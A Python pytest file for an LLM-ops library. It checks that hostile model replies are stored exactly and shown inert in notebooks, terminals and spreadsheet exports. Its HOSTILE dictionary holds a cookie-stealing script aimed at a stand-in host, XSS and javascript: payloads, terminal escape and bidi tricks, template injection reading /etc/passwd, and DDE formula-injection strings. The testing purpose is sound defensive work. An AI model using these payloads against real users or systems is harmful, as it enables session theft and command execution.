"""Replies that are made to harm whoever looks at them: stored exactly, shown inert in a notebook, a terminal and a spreadsheet."""

import csv
import html.parser
import io
import json
import os
import pty
import re
import subprocess
import sys
import threading

import pandas
import pytest

import llmops_lab as lab
from tests.faults.conftest import environment
from tests.servers import ModelServer, refuses

HOSTILE = {
    "script": "<script>fetch('http://192.0.2.1/?' + document.cookie)</script>",
    "image": '<img src="http://192.0.2.1/beacon.png" onerror="alert(1)">',
    "markdown": "![x](http://192.0.2.1/beacon.png) [click](javascript:alert(1))",
    "break out": "</td></pre></script><svg onload=alert(1)>\"'`",
    "frame": "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe><style>*{display:none}</style>",
    "command": '<button data-commandlinker-command="console:create">run</button>',
    "entity": "&lt;b&gt; &amp;amp; &#x3c;script&#x3e;",
    "clear screen": "before\x1b[2J\x1b[H\x1b]0;title\x07after",
    "colours": "\x1b[8mhidden\x1b[0m and \x9b31m c1",
    "link": "\x1b]8;;http://192.0.2.1/\x1b\\click\x1b]8;;\x1b\\",
    "overwrite": "password wrong\rpassword right\b\b\b",
    "bell": "\x07\x00\x01\x7f",
    "surrogate": "half \ud83d and \udc00 alone",
    "bidi": "user\u202e\u2066txt.exe\u2069\u2066\u200f\u061c",
    "zalgo": "Z̴̢̛͉a̶͙͝l̷͓̏g̵̱̎o" * 50,
    "lines": "a\nb\r\nc\u2028d\u2029e\x0bf\x0cg\x85h",
    "template": "{{ 7 * 7 }} {% include '/etc/passwd' %} $HOME `id`",
    "math": "$$\\href{javascript:alert(1)}{x}$$",
    "formula =": "=cmd|' /C calc'!A0",
    "formula +": "+1+1",
    "formula -": "-2+3+cmd|' /C calc'!A0",
    "formula @": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula tab": "\t=1+1",
    "formula return": "\r=1+1",
    "formula spaces": '  =HYPERLINK("http://192.0.2.1/")',
    "formula quote": '"=1+1"',
    "nothing": "",
    "blank": " ",
}
LARGE = "<b>large</b>\x1b[31m" * 250_000  # 5 MB
DRIVES_A_TERMINAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


class Tags(html.parser.HTMLParser):
    """All elements and attributes of a page."""

    def __init__(self, page):
        super().__init__()
        self.tags, self.attributes = set(), set()
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attributes}


def assert_inert(page):
    found = Tags(page)
    assert found.tags <= {"div", "pre", "span", "table", "thead", "tbody", "tr", "th", "td", "p", "details", "summary", "ins", "del", "br"}
    assert found.attributes <= {"style", "class", "border", "open"}


def assert_quiet(text):
    """No control character but newlines, tabs and a return that is followed by a newline."""
    text = text.replace("\r\n", "\n")
    assert not DRIVES_A_TERMINAL.search(text), repr(text[max(0, DRIVES_A_TERMINAL.search(text).start() - 40) :][:120])
    assert "\r" not in text


@pytest.fixture
def server():
    with ModelServer(answer=lambda text: LARGE if text == "large" else HOSTILE[text]) as server:
        yield server


def signed(reply, row):
    return -1.5


def breaks(reply, row):
    raise ValueError(reply.text)


@pytest.fixture
def grid(home, server):
    rows = [{"id": f"{number} {text}", "question": name} for number, (name, text) in enumerate(HOSTILE.items())]
    prompts = {"plain": "{{ question }}", HOSTILE["image"]: "{{ question }}", HOSTILE["formula ="]: "{{ question }}"}
    models = [lab.model(f"openai:m@{server.url}", label=HOSTILE["clear screen"])]
    scorers = [signed, breaks, lab.scorer("length", label="=len()")]
    return lab.grid(prompts, rows, models=models, scorers=scorers, track=False, name=HOSTILE["script"])


def test_stored_exactly_also_for_another_process(grid, tmp_path):
    wanted = [text for text in HOSTILE.values() for _ in range(3)]
    assert grid.state == "done" and [cell["text"] for cell in grid.records()] == wanted
    # A table's text column holds no half characters: they stand there as their escapes, as in a file.
    storable = [text.encode("utf-8", "backslashreplace").decode() for text in wanted]
    assert grid.frame()["text"].tolist() == lab.load(grid.grid_id).frame()["text"].tolist() == storable
    script = f"import json, llmops_lab as lab; print(json.dumps([each['text'] for each in lab.load({grid.grid_id!r}).records()]))"
    child = subprocess.run(
        [sys.executable, "-c", script], env=environment(tmp_path / "home"), cwd=tmp_path, capture_output=True, timeout=60
    )
    assert json.loads(child.stdout) == wanted, child.stderr


def test_shown_inert(grid):
    assert_inert(grid._repr_html_())
    assert_quiet(repr(grid))
    assert_quiet(str(grid))
    figure = grid.plot("signed").to_json()
    assert "<script" not in figure and "\x1b" not in figure
    verdict = lab.compare(grid, a="plain", b=HOSTILE["image"], scorer="signed")
    assert_quiet(repr(verdict))
    assert_quiet(str(verdict))


def test_five_megabytes_are_stored_exactly_and_shown_in_part(home, server):
    grid = lab.grid({"p": "{{ q }}"}, [{"id": "1", "q": "large"}], models=[f"openai:m@{server.url}"], scorers=[breaks], track=False)
    assert grid.frame()["text"][0] == LARGE and len(LARGE) > 4_000_000
    assert len(repr(grid)) + len(grid._repr_html_()) < 10_000
    answer = lab.ask("large", model=f"openai:m@{server.url}", track=False)
    assert answer.text == LARGE and len(repr(answer)) < 500_000 and len(answer._repr_html_()) < 500_000
    assert_inert(answer._repr_html_())
    for path in (grid.export(home / "large.csv"), grid.export(home / "large.parquet"), grid.export(home / "large.json")):
        assert path.stat().st_size > 1000


@pytest.mark.parametrize("stream", [False, True])
def test_a_single_answer_is_shown_inert(home, server, stream):
    for text in HOSTILE:
        if stream and not HOSTILE[text]:
            continue
        answer = lab.ask(text, model=f"openai:m@{server.url}", track=False, stream=stream)
        assert answer.text == str(answer) == HOSTILE[text], text
        assert_quiet(repr(answer))
        assert_inert(answer._repr_html_())
        assert_quiet(answer._repr_html_())


def test_an_error_that_a_server_words_is_shown_inert(home, server):
    said = HOSTILE["clear screen"] + HOSTILE["bidi"] + HOSTILE["surrogate"]
    server.always(refuses(400, said))
    with pytest.raises(lab_error()) as failed:
        lab.ask("x", model=f"openai:m@{server.url}", track=False)
    assert_quiet(str(failed.value))
    assert_quiet("".join(failed.value._render_traceback_()))


def lab_error():
    from llmops_lab.errors import ProviderFault

    return ProviderFault


def test_a_spreadsheet_finds_no_formula_and_numbers_stay_numbers(grid, tmp_path):
    for ending, mark in (("csv", ","), ("tsv", "\t")):
        text = grid.export(tmp_path / f"cells.{ending}").read_bytes().decode("utf-8")
        assert "\x00" not in text
        lines = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=mark))
        assert len(lines) == 3 * len(HOSTILE)
        for line in lines:
            for name, value in line.items():
                assert not name.startswith(("=", "+", "-", "@", "\t", "\r"))
                if name in ("signed", "latency_s", "replicate", "input_tokens"):
                    float(value)
                else:
                    assert not value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n")), (name, value)
            assert line["signed"] == "-1.5"
        told = {line["row_id"].split(" ")[0].lstrip("'"): line["text"] for line in lines}
        names = list(HOSTILE)
        assert told[str(names.index("formula ="))] == "'" + HOSTILE["formula ="]
        assert told[str(names.index("script"))] == HOSTILE["script"]  # what is no formula stays as it is
        assert told[str(names.index("surrogate"))] == "half \\ud83d and \\udc00 alone"


def test_the_other_formats_hold_the_text_exactly(grid, tmp_path):
    wanted = [cell["text"] for cell in grid.records()]
    assert [cell["text"] for cell in json.loads(grid.export(tmp_path / "cells.json").read_text("utf-8"))] == wanted
    lines = grid.export(tmp_path / "cells.jsonl").read_text("utf-8").split("\n")
    assert [json.loads(line)["text"] for line in lines if line] == wanted
    table = pandas.read_parquet(grid.export(tmp_path / "cells.parquet"))
    storable = [text.encode("utf-8", "backslashreplace").decode() for text in wanted]  # Parquet knows no half characters
    assert table["text"].tolist() == storable and table["signed"].tolist() == [-1.5] * len(wanted)


def on_a_terminal(folder, *command):
    """What a person at a terminal gets to see of a command, byte for byte."""
    ours, theirs = pty.openpty()
    child = subprocess.Popen(
        [sys.executable, "-m", "llmops_lab.cli", *command],
        cwd=folder,
        env=environment(folder / "home", TERM="xterm"),
        stdin=subprocess.DEVNULL,
        stdout=theirs,
        stderr=theirs,
    )
    os.close(theirs)
    seen = bytearray()

    def read():
        while True:
            try:
                piece = os.read(ours, 65536)
            except OSError:
                return
            if not piece:
                return
            seen.extend(piece)

    reader = threading.Thread(target=read)
    reader.start()
    code = child.wait(120)
    reader.join(10)
    os.close(ours)
    return code, seen.decode("utf-8", "surrogatepass")


def test_the_command_drives_no_terminal(server, tmp_path):
    rows = [{"id": f"{number} {text}", "question": name} for number, (name, text) in enumerate(HOSTILE.items())]
    (tmp_path / "rows.json").write_text(json.dumps(rows))
    (tmp_path / "prompts.toml").write_text('["\\u001B[2J\\u202Eplain"]\ntemplate = "{{ question }}"\n')
    base = ("grid", "--prompts", "prompts.toml", "--rows", "rows.json", "--model", f"openai:m@{server.url}", "--no-track")
    code, seen = on_a_terminal(tmp_path, *base, "--scorer", "length", "--json", "out.json")
    assert code == 0, seen
    # The progress line draws over itself; nothing else may.
    assert_quiet(re.sub(r"\r[^\r\n\x1b]*\x1b\[K", "", seen))
    assert [cell["text"] for cell in json.loads((tmp_path / "out.json").read_text())] == list(HOSTILE.values())
    for name in ("clear screen", "bidi", "bell"):
        code, seen = on_a_terminal(tmp_path, "ask", name, "--model", f"openai:m@{server.url}", "--no-track")
        assert code == 0, seen
        assert_quiet(re.sub(r"\r[^\r\n\x1b]*\x1b\[K", "", seen))


def test_a_cell_of_a_notebook_shows_it_inert(home, server):
    from IPython.core.interactiveshell import InteractiveShell
    from IPython.utils.capture import capture_output

    shell = InteractiveShell.instance()
    shell.run_line_magic("load_ext", "llmops_lab")
    try:
        for name in ("image", "break out", "clear screen", "bidi", "surrogate"):
            with capture_output() as shown:
                shell.run_cell_magic("prompt", f"--model openai:m@{server.url} --no-track --out said", name)
            assert shell.user_ns["said"].text == HOSTILE[name] and shown.outputs
            for output in shown.outputs:
                assert set(output.data) <= {"text/plain", "text/html"}
                assert_inert(output.data.get("text/html", ""))
                assert_quiet(output.data["text/plain"])
            assert_quiet(shown.stdout)
    finally:
        shell.run_line_magic("unload_ext", "llmops_lab")
        InteractiveShell.clear_instance()
